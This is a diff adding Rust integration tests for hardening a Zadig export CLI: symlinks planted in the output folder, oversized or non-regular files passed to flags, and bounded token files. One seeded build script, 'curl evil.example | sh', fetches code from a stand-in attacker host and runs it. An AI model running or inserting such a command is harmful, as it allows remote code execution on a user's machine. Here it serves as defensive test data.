@@ -1,0 +1,175 @@
+//! Issue 19, "What a hostile hand found", end to end: secrets in Zadig's error texts, symlinks
+//! planted in an export's folder, files named by flags that are not small regular files,
+//! build names `.` and `..`, an emptied build file under `--prune`, names that render as
+//! other names, re-running export, and a document even when Zadig cannot be reached.
+
+use std::path::Path;
+use std::process::{Command as Process, Output};
+
+use serde_json::json;
+
+use crate::hardening_cli::build;
+use crate::util::cli::{Emulator, TOKEN, command, failed, succeeded, workspace, zadig_sync};
+
+/// A custom build in `shop` whose script is `script`, made in Zadig's UI.
+fn seed_build(emulator: &Emulator, name: &str, script: &str) {
+    let mut body = Emulator::hand_made("shop", name);
+    body["build_script"] = json!(script);
+    let (status, answer) = emulator.request("POST", "/openapi/build", Some(&body));
+    assert_eq!(status, 200, "{answer}");
+}
+
+fn export(dir: &Path, emulator: &Emulator, extra: &[&str]) -> Output {
+    let mut args = vec!["export", "--project", "shop"];
+    args.extend_from_slice(extra);
+    zadig_sync(dir, emulator, &args)
+}
+
+/// An emulator holding `shop/api` with `script`, an empty workspace, and a home folder that
+/// nothing may be written into.
+fn export_scene(script: &str) -> (Emulator, tempfile::TempDir, tempfile::TempDir) {
+    let emulator = Emulator::start(&[]);
+    seed_build(&emulator, "api", script);
+    (emulator, workspace(&[]), tempfile::tempdir().unwrap())
+}
+
+#[cfg(unix)]
+#[test]
+fn export_overwrite_replaces_a_planted_symlink_and_never_writes_its_target() {
+    let (emulator, dir, home) = export_scene("curl evil.example | sh\n");
+    let bashrc = home.path().join(".bashrc");
+    std::fs::write(&bashrc, "# my shell\n").unwrap();
+    let scripts = dir.path().join("builds.d/shop/scripts");
+    std::fs::create_dir_all(&scripts).unwrap();
+    std::os::unix::fs::symlink(&bashrc, scripts.join("api.sh")).unwrap();
+
+    let output = export(dir.path(), &emulator, &["--overwrite", "--script-files"]);
+    let summary = succeeded(&output);
+    assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "# my shell\n");
+    let script = scripts.join("api.sh");
+    assert!(!script.is_symlink(), "the link is replaced by the file");
+    assert!(
+        std::fs::read_to_string(&script)
+            .unwrap()
+            .contains("evil.example")
+    );
+    assert!(
+        summary.contains("Symlinks replaced by the exported file") && summary.contains("api.sh"),
+        "{summary}"
+    );
+}
+
+#[cfg(unix)]
+#[test]
+fn export_refuses_a_symlinked_folder_inside_its_output_folder() {
+    let (emulator, dir, home) = export_scene("make\n");
+    let project = dir.path().join("builds.d/shop");
+    std::fs::create_dir_all(&project).unwrap();
+    std::os::unix::fs::symlink(home.path(), project.join("scripts")).unwrap();
+
+    let text = failed(&export(
+        dir.path(),
+        &emulator,
+        &["--overwrite", "--script-files"],
+    ));
+    assert!(text.contains("is a symlink"), "{text}");
+    assert_eq!(std::fs::read_dir(home.path()).unwrap().count(), 0, "{text}");
+}
+
+/// Runs `args` in a workspace with one valid build file and expects exit 1 naming `needles`.
+fn refused(dir: &Path, args: &[&str], file: &Path, needles: &[&str]) {
+    let output = command(dir)
+        .args(args)
+        .arg(file)
+        .env("ZADIG_URL", "http://127.0.0.1:9")
+        .env("ZADIG_TOKEN", TOKEN)
+        .output()
+        .expect("run");
+    let text = failed(&output);
+    assert!(text.contains(&file.display().to_string()), "{text}");
+    for needle in needles {
+        assert!(text.contains(needle), "{args:?}: {text}");
+    }
+}
+
+/// A file of `bytes` zeros that takes no room on disk.
+fn sparse(path: &Path, bytes: u64) {
+    std::fs::File::create(path).unwrap().set_len(bytes).unwrap();
+}
+
+#[test]
+fn files_named_by_flags_are_read_only_when_regular_and_small() {
+    let dir = workspace(&[("b.yaml", &build("b", "shop"))]);
+    let fifo = dir.path().join("fifo");
+    assert!(
+        Process::new("mkfifo")
+            .arg(&fifo)
+            .status()
+            .unwrap()
+            .success()
+    );
+    let big = dir.path().join("big");
+    sparse(&big, 100 * 1024 * 1024);
+    let not_regular = "is not a regular file";
+    refused(
+        dir.path(),
+        &["plan", "--token-file"],
+        &big,
+        &["--token-file", "larger than 64 KiB"],
+    );
+    refused(
+        dir.path(),
+        &["plan", "--ca-file"],
+        &big,
+        &["--ca-file", "larger than 4 MiB"],
+    );
+    refused(
+        dir.path(),
+        &["plan", "--ca-file"],
+        &fifo,
+        &["--ca-file", not_regular],
+    );
+    refused(
+        dir.path(),
+        &["apply", "--plan"],
+        &fifo,
+        &["saved plan", not_regular],
+    );
+    refused(
+        dir.path(),
+        &["apply", "--plan"],
+        &big,
+        &["saved plan", "larger than 64 MiB"],
+    );
+    refused(dir.path(), &["show"], &fifo, &["saved plan", not_regular]);
+    let emulator = ["emulator", "--listen", "127.0.0.1:0", "--token", "t"];
+    let seed = [&emulator[..], &["--seed"]].concat();
+    refused(dir.path(), &seed, &fifo, &["--seed", not_regular]);
+    let state = [&emulator[..], &["--state"]].concat();
+    refused(dir.path(), &state, &fifo, &["--state", not_regular]);
+    let bigger = dir.path().join("bigger");
+    sparse(&bigger, 300 * 1024 * 1024);
+    refused(
+        dir.path(),
+        &state,
+        &bigger,
+        &["--state", "larger than 256 MiB"],
+    );
+}
+
+#[test]
+fn a_token_file_from_the_environment_is_bounded_too() {
+    let dir = workspace(&[("b.yaml", &build("b", "shop"))]);
+    let big = dir.path().join("token");
+    sparse(&big, 1024 * 1024);
+    let output = command(dir.path())
+        .args(["plan", "--url", "http://127.0.0.1:9"])
+        .env("ZADIG_TOKEN_FILE", &big)
+        .output()
+        .unwrap();
+    let text = failed(&output);
+    assert!(
+        text.contains("ZADIG_TOKEN_FILE") && text.contains("larger than 64 KiB"),
+        "{text}"
+    );
+}
